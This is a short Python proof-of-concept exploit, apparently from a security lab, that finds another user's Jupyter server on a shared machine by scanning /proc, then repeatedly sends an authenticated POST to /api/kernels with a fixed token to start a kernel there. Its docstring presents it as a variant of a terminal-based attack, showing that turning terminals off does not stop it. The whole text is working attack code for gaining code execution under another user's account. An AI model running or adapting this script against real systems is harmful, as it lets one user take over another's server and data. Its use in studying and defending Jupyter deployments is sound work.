"""As lab_token_attack.py, but start a kernel (POST /api/kernels) instead of a terminal: turning terminals off is no fix."""
import json, os, re, time, urllib.request
TA, TOKEN = 65534, "t" * 32
log = open(os.environ.get("LOG", "/dev/stdout"), "a", buffering=1)
end = time.time() + 120
while time.time() < end:
    port = None
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.stat(f"/proc/{pid}").st_uid == TA:
                m = re.search(rb"jupyter_server.*--ServerApp\.port=(\d+)", open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" "))
                port = int(m.group(1)) if m else port
        except OSError:
            pass
    if not port:
        time.sleep(0.01); continue
    while time.time() < end:
        try:
            r = urllib.request.urlopen(urllib.request.Request(f"http://127.0.0.1:{port}/api/kernels", data=b'{"name": "python3"}',
                                       method="POST", headers={"Authorization": f"token {TOKEN}"}), timeout=30)
            log.write(f"{time.strftime('%T')} POST /api/kernels on the TA's server -> {r.status} {json.load(r)}\n"); raise SystemExit
        except OSError:
            time.sleep(0.05)
